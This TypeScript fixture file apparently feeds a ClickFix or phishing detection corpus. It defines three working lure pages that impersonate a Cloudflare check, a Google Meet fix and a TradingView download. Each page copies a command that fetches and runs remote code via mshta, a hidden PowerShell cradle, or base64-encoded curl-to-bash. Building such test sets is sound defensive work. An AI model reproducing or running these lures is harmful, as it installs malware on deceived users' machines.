import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, jsRoute, logo } from '../parts/j-kit.js';

export const entries: Entry[] = [
{
  id: 'j-clickfix-turnstile-mshta-fr',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://verification.reservation-gites-dordogne.fr/',
  body: doc({
    lang: 'fr',
    title: 'Un instant…',
    style: `body{background:#fff;font-family:system-ui}.c{max-width:640px;margin:100px auto;padding:0 20px}.w{border:1px solid #e0e0e0;border-radius:4px;width:300px;padding:14px;display:flex;align-items:center;gap:12px;background:#fafafa}.cb{width:24px;height:24px;border:2px solid #666;border-radius:3px;cursor:pointer}.m{display:none;border:1px solid #ddd;padding:16px;margin-top:16px;border-radius:6px;box-shadow:0 4px 16px rgba(0,0,0,.12)}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px}`,
    body: `<div class="c"><h1>reservation-gites-dordogne.fr</h1><h2 style="font-weight:400">Vérifiez que vous êtes humain en complétant l'action ci-dessous.</h2>
<div class="w"><div class="cb" id="cb"></div><span>Je suis humain</span><span style="margin-left:auto;font-size:10px;color:#f38020">CLOUDFLARE<br><span style="color:#888">Confidentialité · Conditions</span></span></div>
<div class="m" id="m"><b>Étapes de vérification</b><p>1. Appuyez sur <kbd>Windows</kbd> + <kbd>R</kbd></p><p>2. Appuyez sur <kbd>Ctrl</kbd> + <kbd>V</kbd></p><p>3. Appuyez sur <kbd>Entrée</kbd></p><p style="font-size:12px;color:#666">Cette étape permet de vérifier que vous n'êtes pas un robot. Ray ID : 8f2e71a0c4b3</p></div>
<p style="font-size:13px;color:#555;margin-top:30px">reservation-gites-dordogne.fr doit vérifier la sécurité de votre connexion avant de continuer.</p></div>
<script>document.getElementById('cb').onclick=function(){var s='mshta https://verif-cdn.gites-check.com/captcha.hta # Je ne suis pas un robot - ID de vérification : 8f2e71';var t=document.createElement('textarea');t.value=s;t.style.position='fixed';t.style.opacity='0';document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();document.getElementById('m').style.display='block'}</script>`,
  }),
},
{
  id: 'j-clickfix-meet-microphone-fix',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://meet.google.com-join.us/vkq-rtfm-xpz',
  body: doc({
    title: 'Meet - vkq-rtfm-xpz',
    style: `body{background:#202124;color:#e8eaed;font-family:"Google Sans",Roboto,Arial}.v{width:640px;height:360px;background:#3c4043;border-radius:8px;margin:60px auto 20px;display:flex;align-items:center;justify-content:center}.p{position:fixed;top:50%;left:50%;transform:translate(-50%,-50%);background:#fff;color:#202124;width:480px;padding:24px;border-radius:8px;box-shadow:0 4px 20px rgba(0,0,0,.5)}.p button{background:#1a73e8;color:#fff;border:0;padding:10px 22px;border-radius:4px}`,
    body: `<div class="v">📷 Camera is starting…</div><p style="text-align:center">Ready to join? · Weekly Sync – Product &amp; Finance</p>
<div class="p"><h3>Microphone and camera problem</h3><p>Meet cannot access your microphone due to a browser permissions error (code 0x80070005). To fix this issue:</p><ol><li>Click <b>Try fix</b> to copy the fix script</li><li>Press <b>Windows + X</b>, then <b>I</b> to open Windows PowerShell</li><li>Right-click to paste, then press <b>Enter</b></li></ol><button id="t">Try fix</button></div>
<script>document.getElementById('t').onclick=function(){navigator.clipboard.writeText('powershell -NoP -W Hidden -C "$w=New-Object Net.WebClient;$w.Headers.Add(\\'User-Agent\\',\\'Mozilla/5.0\\');iex $w.DownloadString(\\'https://meet-driverfix.com/audio.ps1\\')"');this.textContent='Copied – now paste it in PowerShell'}</script>`,
  }),
},
{
  id: 'j-clickfix-macos-terminal-verify',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://cloud-check.tradingview-desktop.app/verify?id=mac',
  routes: {
    'cloud-check.tradingview-desktop.app/verify': htmlRoute(doc({
      title: 'Verification required',
      style: `body{background:#f5f5f7;font-family:-apple-system}.b{max-width:560px;margin:80px auto;background:#fff;border-radius:14px;padding:30px;box-shadow:0 6px 30px rgba(0,0,0,.08)}pre{background:#1d1d1f;color:#f5f5f7;padding:12px;border-radius:8px;white-space:pre-wrap;word-break:break-all;font-size:12px}button{background:#0071e3;color:#fff;border:0;padding:10px 18px;border-radius:8px}`,
      body: `<div class="b"><h2>Verify you are human</h2><p>To download TradingView Desktop for macOS, complete this quick verification. It protects our servers from automated downloads.</p>
<ol><li>Press <b>⌘ Command + Space</b>, type <b>Terminal</b> and press Return</li><li>Click <b>Copy</b> below and paste into Terminal (⌘ + V)</li><li>Press Return and enter your Mac password if asked</li></ol>
<pre id="c">/bin/bash -c "$(echo Y3VybCAtZnNTTCBodHRwczovL3RyYWRpbmd2aWV3LWRlc2t0b3AuYXBwL2luc3RhbGwuc2ggfCBiYXNo | base64 -d)"</pre><button id="b">Copy</button> <span id="s" style="color:#0a0"></span></div>
<script>document.getElementById('b').onclick=function(){navigator.clipboard.writeText(document.getElementById('c').innerText);document.getElementById('s').textContent='Copied ✓'}</script>`,
    })),
  },
},
];
